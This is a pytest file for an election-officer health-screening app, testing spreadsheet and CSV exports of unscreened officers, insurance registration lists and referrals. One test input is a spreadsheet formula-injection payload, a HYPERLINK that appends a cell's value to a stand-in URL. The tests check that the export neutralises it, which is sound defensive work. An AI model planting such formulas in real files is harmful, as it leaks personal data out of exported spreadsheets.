"""KPU's downloads of the lists people act on (/kpu/ekspor/): the chase list of officers not yet
screened, the JKN and BPJS Ketenagakerjaan registration lists and the referrals. Each opened as
a spreadsheet and as CSV: the right officers, the right columns, inert formulas, a dated name,
an audit row and no health data."""

import csv
import io
from datetime import date

import openpyxl
import pytest

from screening.clock import now_iso, today_wib
from screening.demo.screenings import HEALTHY
from screening.questionnaire import Result
from screening.store import consent as consent_store
from screening.store import referrals as referral_store
from screening.store import responses
from tests.pdf.conftest import WORST_ANSWERS

FORMULA_NAME = '=HYPERLINK("http://x"&F2,"Buka")'
MEDONO = {"kelurahan": "3375011002"}


def table(response, kind: str) -> list[list]:
    """The file as rows of cell values, the title row first."""
    assert response.status_code == 200, response.text
    if kind == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
        return [list(row) for row in sheet.iter_rows(values_only=True)]
    text = response.data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def column(rows: list[list], title: str) -> list:
    index = rows[0].index(title)
    return [row[index] for row in rows[1:]]


def dated_name(response, stem: str, kind: str) -> None:
    disposition = response.headers["Content-Disposition"]
    assert f"{stem}-3375011002-{today_wib().isoformat()}.{kind}" in disposition


def exports_logged(db) -> list[dict]:
    return list(db["audit_log"].rows_where("action = 'export'", order_by="id"))


@pytest.fixture
def officers(make, db):
    """In Medono: one not started, one half-way, one who declined, one screened and referred
    with every red flag; one not started in another TPS; and one in another kelurahan."""
    from screening.store import regions

    fktp = make.fktp(name="Puskesmas Medono")
    waiting = make.officer(name=FORMULA_NAME, tps=2, phone="081234567890")
    drafting = make.officer(name="Dewi Sedang Isi", tps=1, jkn_status="tidak_aktif")
    declined = make.officer(name="Rudi Menolak", tps=1, bpjs_tk_status="belum_terdaftar")
    later_tps = make.officer(name="Agus TPS Tiga", tps=3, jkn_status="belum_terdaftar")
    regions.upsert_kelurahan(
        db, [{"code": "3375011003", "name": "Podosugih", "kecamatan_code": "337501"}]
    )
    elsewhere = make.officer(
        name="Budi Podosugih", kelurahan_code="3375011003", jkn_status="tidak_aktif"
    )
    screened, response, referral = make.screened_officer(
        {**HEALTHY, **WORST_ANSWERS},
        fktp_code=fktp["code"],
        name="Siti Dirujuk",
        tps=1,
        bpjs_tk_status=None,
    )
    ids = {row["name"]: row["id"] for row in db.query("SELECT id, name FROM officer")}
    db["response"].insert(
        {
            "officer_id": ids["Dewi Sedang Isi"],
            "questionnaire_id": "x",
            "questionnaire_version": "1",
            "status": "draft",
        }
    )
    consent_store.record_decision(
        db, ids["Rudi Menolak"], text_version="1", decision="menolak", now=now_iso()
    )
    return {
        "ids": ids,
        "waiting": waiting,
        "drafting": drafting,
        "declined": declined,
        "later_tps": later_tps,
        "elsewhere": elsewhere,
        "screened": screened,
        "response": response,
        "referral": referral,
    }


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_the_chase_list_holds_who_has_not_screened_per_tps_with_link_and_whatsapp(
    client, sign_in, db, officers, kind
):
    sign_in("kpu")
    response = client.post(f"/kpu/ekspor/belum-skrining.{kind}", data=MEDONO)
    rows = table(response, kind)
    dated_name(response, "belum-skrining", kind)
    assert rows[0][:6] == ["Kelurahan", "TPS", "Nama", "Jabatan", "No HP", "Status skrining"]
    names = column(rows, "Nama")
    # Per TPS; the declined, the screened and the other kelurahan's officer are left out.
    assert names == ["Dewi Sedang Isi", "'" + FORMULA_NAME, "Agus TPS Tiga"]
    assert [str(t) for t in column(rows, "TPS")] == ["1", "2", "3"]
    assert column(rows, "Status skrining") == ["Sedang mengisi", "Belum mulai", "Belum mulai"]
    for link, whatsapp in zip(
        column(rows, "Tautan pribadi"), column(rows, "Kirim via WhatsApp"), strict=True
    ):
        assert link.startswith("http")
        assert "/s/" in link
        assert whatsapp.startswith("https://wa.me/6281234567890?text=")
    logged = exports_logged(db)
    assert logged[-1]["subject"] == "officers:unscreened"
    assert "3 petugas" in logged[-1]["detail"]


def test_the_chase_list_formula_name_is_inert_text_in_the_spreadsheet(client, sign_in, officers):
    sign_in("kpu")
    response = client.post("/kpu/ekspor/belum-skrining.xlsx", data=MEDONO)
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    names = [row[2] for row in sheet.iter_rows(min_row=2)]
    formula = [c for c in names if "HYPERLINK" in str(c.value)]
    assert [(c.data_type, c.value) for c in formula] == [("s", "'" + FORMULA_NAME)]
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_the_chase_list_is_a_post_and_wants_an_area(client, sign_in, db, officers):
    sign_in("kpu")
    assert client.get("/kpu/ekspor/belum-skrining.xlsx?kelurahan=3375011002").status_code == 405
    response = client.post("/kpu/ekspor/belum-skrining.xlsx", data={})
    assert response.status_code == 302
    assert exports_logged(db) == []
    assert db["officer_access"].count == 0


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_the_jkn_list_holds_who_the_pemda_must_register(client, sign_in, db, officers, kind):
    sign_in("kpu")
    response = client.post(f"/kpu/ekspor/jkn.{kind}", data=MEDONO)
    rows = table(response, kind)
    dated_name(response, "jkn-belum-aktif", kind)
    assert rows[0] == [
        "NIK",
        "Nama",
        "Tanggal lahir",
        "Jenis kelamin",
        "Kelurahan",
        "Kecamatan",
        "No HP",
        "Status JKN",
    ]
    assert column(rows, "Nama") == ["Dewi Sedang Isi", "Agus TPS Tiga"]
    assert column(rows, "Status JKN") == ["Tidak aktif", "Belum terdaftar"]
    assert column(rows, "NIK") == [officers["drafting"]["nik"], officers["later_tps"]["nik"]]
    assert column(rows, "Kecamatan")[0] == "Pekalongan Barat"
    birth = column(rows, "Tanggal lahir")[0]
    assert birth == "14/03/1985" if kind == "csv" else birth.date() == date(1985, 3, 14)
    assert exports_logged(db)[-1]["subject"] == "officers:jkn"


def test_the_jkn_list_of_a_kecamatan_reaches_every_kelurahan(client, sign_in, officers):
    sign_in("kpu")
    rows = table(client.post("/kpu/ekspor/jkn.csv", data={"kecamatan": "337501"}), "csv")
    assert "Budi Podosugih" in column(rows, "Nama")


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_the_bpjs_ketenagakerjaan_list_holds_the_unregistered_with_their_role(
    client, sign_in, db, officers, kind
):
    sign_in("admin")
    response = client.post(f"/kpu/ekspor/bpjs-ketenagakerjaan.{kind}", data=MEDONO)
    rows = table(response, kind)
    assert rows[0][-2:] == ["Jabatan", "Status BPJS Ketenagakerjaan"]
    assert column(rows, "Nama") == ["Rudi Menolak", "Siti Dirujuk"]  # belum, and no status
    assert column(rows, "Status BPJS Ketenagakerjaan") == ["Belum terdaftar"] * 2
    assert column(rows, "Jabatan") == ["KPPS", "KPPS"]
    assert exports_logged(db)[-1]["subject"] == "officers:bpjs_tk"


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_the_referrals_list_shows_where_each_stands_and_no_health_data(
    app, client, sign_in, db, officers, kind
):
    sign_in("kpu")
    referral = officers["referral"]
    # Past its deadline and still expected: overdue.
    db["referral"].update(referral["id"], {"deadline": "2000-01-01"})
    response = client.post(f"/kpu/ekspor/rujukan.{kind}", data=MEDONO)
    rows = table(response, kind)
    dated_name(response, "rujukan", kind)
    assert rows[0] == [
        "Nomor rujukan",
        "Nama petugas",
        "Jabatan",
        "TPS",
        "Kelurahan",
        "FKTP",
        "Status",
        "Urgensi",
        "Batas waktu",
        "Terlambat",
        "Kelayakan bertugas",
    ]
    assert column(rows, "Nomor rujukan") == [referral["number"]]
    assert column(rows, "FKTP") == ["Puskesmas Medono"]
    assert column(rows, "Status") == ["Baru"]
    assert column(rows, "Terlambat") == ["Ya"]
    assert exports_logged(db)[-1]["subject"] == "referrals:kpu"
    text = " ".join(str(c) for row in rows for c in row if c is not None)
    result = Result.from_dict(
        responses.response_for_officer(db, officers["screened"]["id"])["result"]
    )
    health = [c.title.msgid for c in result.conditions.values()]
    health += [r.message.msgid.split("%")[0] for c in result.conditions.values() for r in c.reasons]
    health += [f.title.msgid for f in result.red_flags]
    assert health
    assert [h for h in health if h.strip() and h in text] == []
    assert "berisiko" not in text
    assert "tinggi" not in text


def test_the_referrals_list_without_an_area_covers_the_city(client, sign_in, db, officers):
    sign_in("kpu")
    rows = table(client.post("/kpu/ekspor/rujukan.csv"), "csv")
    assert len(rows) == 1 + referral_store.count_referrals(db)


def test_the_export_page_offers_every_list_for_the_chosen_area_without_script(
    client, sign_in, officers
):
    sign_in("kpu")
    page = client.get("/kpu/ekspor/?kelurahan=3375011002&tps=2").get_data(as_text=True)
    assert '<form method="get"' in page
    assert 'action="/kpu/ekspor/belum-skrining.xlsx"' in page
    assert 'formaction="/kpu/ekspor/belum-skrining.csv"' in page
    # Every list is a button (a POST: a large one is queued as a job), for the chosen area.
    for path in ("jkn", "bpjs-ketenagakerjaan", "rujukan"):
        assert f'action="/kpu/ekspor/{path}.xlsx"' in page
        assert f'formaction="/kpu/ekspor/{path}.csv"' in page
    assert page.count('<input type="hidden" name="kelurahan" value="3375011002">') == 4
    assert page.count('<input type="hidden" name="tps" value="2">') == 4
    assert 'href="/kpu/ekspor/jkn' not in page
    assert "<script" not in page


def test_the_registration_lists_hold_exactly_the_officers_the_coverage_page_counts(demo_city, db):
    from screening.store import action_lists as list_store
    from screening.store import coverage as coverage_store

    # Statuses a roster may leave out or write oddly: no status, an empty cell.
    db.execute("UPDATE officer SET jkn_status = NULL WHERE id % 37 = 0")
    db.execute("UPDATE officer SET bpjs_tk_status = '' WHERE id % 41 = 0")
    db.execute("UPDATE officer SET bpjs_tk_status = NULL WHERE id % 43 = 0")
    db.conn.commit()
    for row in coverage_store.city_by_kecamatan(db, today="2029-01-01"):
        without_jkn = list_store.officers_without_jkn(db, kecamatan=row["code"])
        without_tk = list_store.officers_without_bpjs_tk(db, kecamatan=row["code"])
        assert len(without_jkn) == row["jkn_tidak_aktif"] + row["jkn_belum_terdaftar"]
        assert len(without_tk) == row["bpjs_tk_belum"]
